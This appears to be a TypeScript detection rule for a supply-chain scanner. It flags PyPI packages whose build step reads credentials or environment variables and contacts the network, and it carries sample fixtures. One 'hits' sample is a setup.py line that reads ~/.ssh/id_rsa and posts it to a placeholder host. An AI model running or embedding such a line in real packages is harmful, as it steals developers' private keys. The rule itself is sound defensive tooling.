import type { Rule } from '../rule';

export const buildCredentialTheft: Rule = {
  code: 'build-credential-theft',
  ecosystem: 'pypi',
  kind: 'build',
  severity: 'critical',
  verdict: 'malicious',
  tactic: 'exfiltration',
  capabilities: ['network', 'environment', 'credential-files'],
  languages: ['python', 'shell'],
  summary: 'Building the package reads credentials or the whole environment, and talks to the network.',
  message: 'reads credentials and talks to the network when the package is built',
  pattern: {
    where: 'builds',
    any: ['secret-sent'],
    or: [{ any: ['credential-file', 'environment-harvest'], near: ['network'] }],
  },
  samples: {
    hits: [
      {
        what: 'credentials and the network',
        format: 'sdist',
        files: {
          'setup.py':
            'import os, requests\nrequests.post("https://a.invalid", data=open(os.path.expanduser("~/.ssh/id_rsa")).read())\n',
        },
        verdict: 'malicious',
      },
    ],
    ignores: [
      {
        what: 'a compiler named by the environment',
        format: 'sdist',
        files: {
          'setup.py':
            'import os\nfrom setuptools import setup\nos.environ.setdefault("CC", "gcc")\nsetup(name="sample")\n',
        },
        why: 'A variable by its name is a setting, and nothing is sent.',
        verdict: 'clean',
      },
    ],
  },
};
